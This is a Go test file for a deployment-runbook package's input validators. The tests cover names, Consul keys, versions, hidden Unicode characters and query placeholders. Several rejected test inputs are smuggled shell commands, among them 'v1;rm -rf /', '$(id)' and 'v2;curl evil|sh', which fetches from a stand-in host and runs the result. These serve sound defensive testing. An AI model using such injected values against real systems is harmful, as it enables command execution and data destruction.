package runbook

import (
	"errors"
	"strings"
	"testing"
)

func TestCheckName(t *testing.T) {
	// Names the repository's examples, tests, bench and dev stack use.
	for _, ok := range []string{"payments_api", "be_c_001", "stable", "canary", "canary-2", "edge", "api", "v1.2", "a",
		strings.Repeat("n", MaxNameLen)} {
		if err := CheckName("backend", ok); err != nil {
			t.Errorf("CheckName(%q) = %v, want nil", ok, err)
		}
	}
	for _, tt := range []struct{ value, want string }{
		{"", "backend is required"},
		{"be;shutdown", `invalid backend "be;shutdown": character ';' at position 3 is not allowed`},
		{"can\u202eary", `invalid backend "can\u202eary": character U+202E at position 4 is not allowed`},
		{"a\u0085b", `invalid backend "a\u0085b": character U+0085 at position 2 is not allowed`},
		{"with space", "character U+0020 at position 5"},
		{"tab\there", "character U+0009 at position 4"},
		{"a/b", "character '/' at position 2"},
		{`say"hi"`, `character '"' at position 4`},
		{"it's", `character '\'' at position 3`},
		{"-leading", "character '-' at position 1"},
		{".hidden", "character '.' at position 1"},
		{"ünï", "character U+00FC at position 1"},
		{strings.Repeat("n", MaxNameLen+1), "64 characters, at most 63"},
	} {
		err := CheckName("backend", tt.value)
		if err == nil || !errors.Is(err, ErrName) || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("CheckName(%q) = %v, want ErrName containing %q", tt.value, err, tt.want)
		}
	}
}

func TestCheckConsulKey(t *testing.T) {
	for _, ok := range []string{"rollbook-demo/payments-api/features/new-ledger", "app/with space", "a/.hidden", "a/...", "a/..x",
		"a:b@c=d+e,f~g", strings.Repeat("k", MaxKeyBytes)} {
		if err := CheckConsulKey(ok); err != nil {
			t.Errorf("CheckConsulKey(%q) = %v, want nil", ok, err)
		}
		if !consulKeyRe.MatchString(ok) {
			t.Errorf("ConsulKeyPattern refuses %q, which CheckConsulKey accepts", ok)
		}
	}
	for _, tt := range []struct{ key, want string }{
		{"", "key is empty"},
		{"/abs", "must be relative"},
		{"a//b", "empty segment"},
		{"a/", "empty segment"},
		{"a/../b", `must not contain ".." segments`},
		{"./a", `must not contain "." segments`},
		{"..", `must not contain ".." segments`},
		{"caf\u00e9", "character U+00E9 at position 4"},
		{"a\u202eb", "character U+202E at position 2"},
		{"a\tb", "character U+0009 at position 2"},
		{"a\x7fb", "character U+007F at position 2"},
		{strings.Repeat("k", MaxKeyBytes+1), "is 513 bytes; the limit is 512"},
	} {
		err := CheckConsulKey(tt.key)
		if err == nil || !errors.Is(err, ErrName) || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("CheckConsulKey(%q) = %v, want ErrName containing %q", tt.key, err, tt.want)
		}
		// The schema's pattern and the check agree (length aside).
		if len(tt.key) <= MaxKeyBytes && consulKeyRe.MatchString(tt.key) {
			t.Errorf("ConsulKeyPattern accepts %q, which CheckConsulKey refuses", tt.key)
		}
	}
}

func TestCheckVersion(t *testing.T) {
	for _, ok := range []string{"v1.2.3", "1.2.3", "v1.2.3-rc.1+build", "v1.2.3-rc.1+build.7", "2026.11.29_1",
		"3f2a9c1d0e8b7a6f5e4d3c2b1a0f9e8d7c6b5a49", strings.Repeat("1", MaxVersionLen)} {
		if err := CheckVersion(ok); err != nil {
			t.Errorf("CheckVersion(%q) = %v, want nil", ok, err)
		}
	}
	for _, tt := range []struct{ v, want string }{
		{"", "version is required"},
		{"v1;rm -rf /", "character ';' at position 3"},
		{"$(id)", "character '$' at position 1"},
		{"`id`", "character '`' at position 1"},
		{"v1|x", "character '|' at position 3"},
		{"v1&x", "character '&' at position 3"},
		{"v1 2", "character U+0020 at position 3"},
		{"v1/2", "character '/' at position 3"},
		{"-v1", "character '-' at position 1"},
		{"v1\n", "character U+000A at position 3"},
		{"v1\u202e", "character U+202E at position 3"},
		{strings.Repeat("1", MaxVersionLen+1), "version is 129 bytes; the limit is 128"},
	} {
		err := CheckVersion(tt.v)
		if err == nil || !errors.Is(err, ErrName) || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("CheckVersion(%q) = %v, want ErrName containing %q", tt.v, err, tt.want)
		}
	}
}

// TestBundleVersionSyntax: the version is checked when the bundle is built
// and again when a bundle is decoded (the worker's side).
func TestBundleVersionSyntax(t *testing.T) {
	if _, err := BuildBundle("../runbooks/config-only.yaml", "v2;curl evil|sh", Origin{}); err == nil ||
		!strings.Contains(err.Error(), `version: invalid version "v2;curl evil|sh": character ';' at position 3 is not allowed`) {
		t.Errorf("BuildBundle with a shell version: %v", err)
	}
	b, err := BuildBundle("../runbooks/config-only.yaml", "v2", Origin{})
	if err != nil {
		t.Fatal(err)
	}
	b.Version = "$(id)"
	b.Hash, _ = b.ContentHash()
	if err := b.Check(); err == nil || !strings.Contains(err.Error(), `version: invalid version "$(id)"`) {
		t.Errorf("Check with a shell version: %v", err)
	}
}

// TestHiddenCharactersInFreeText: a description or query may not carry
// characters that hide or reorder text ("Trojan Source").
func TestHiddenCharactersInFreeText(t *testing.T) {
	y := "apiVersion: rollbook/v1\nservice: payments-api\ndescription: \"safe \\u202e txet\"\nsteps:\n" +
		"  - name: watch\n    verify:\n      duration: 1m\n      checks:\n" +
		"        - {name: q, prometheus: {query: \"up\\e[2J\", max: 1}}\n" +
		"        - {name: ok, prometheus: {query: \"sum(up)\\n\\t/ 2\", max: 1}}\n"
	_, err := Parse("t.yaml", []byte(y))
	requireMessages(t, err,
		"t.yaml:3: description: character U+202E at position 6 is not allowed: it would hide or reorder text where the description is shown",
		"t.yaml:9: steps[0].verify.checks[0].prometheus.query: character U+001B at position 3 is not allowed in a query (it would hide or reorder text in plans and logs)")
	if n := len(messages(err)); n != 2 {
		t.Errorf("%d messages, want 2: %v", n, err)
	}
}

// TestQueryPlaceholders: {{version}} is the only placeholder a query may
// use, and QueryFor fills it only with a version of the version syntax.
func TestQueryPlaceholders(t *testing.T) {
	y := "apiVersion: rollbook/v1\nservice: payments-api\nsteps:\n" +
		"  - name: watch\n    verify:\n      duration: 1m\n      checks:\n" +
		"        - {name: ok, prometheus: {query: 'up{version=\"{{version}}\"}', max: 1}}\n" +
		"        - {name: bad, prometheus: {query: 'up{job=\"{{service}}\"}', max: 1}}\n"
	_, err := Parse("t.yaml", []byte(y))
	requireMessages(t, err, "t.yaml:9: steps[0].verify.checks[1].prometheus.query: the only placeholder a query may use is {{version}}")
	if n := len(messages(err)); n != 1 {
		t.Errorf("%d messages, want 1: %v", n, err)
	}
	q := PrometheusCheck{Query: `rate(x{version="{{version}}"}[30s]) / rate(y{version="{{version}}"}[30s])`}
	got, err := q.QueryFor("v3")
	if err != nil || got != `rate(x{version="v3"}[30s]) / rate(y{version="v3"}[30s])` {
		t.Errorf("QueryFor(v3) = %q, %v", got, err)
	}
	if _, err := q.QueryFor(`v3"}`); err == nil {
		t.Error("QueryFor accepted a version that closes the label string")
	}
	if got, err := (PrometheusCheck{Query: "up"}).QueryFor(""); err != nil || got != "up" {
		t.Errorf("a query without the placeholder needs no version: %q, %v", got, err)
	}
}
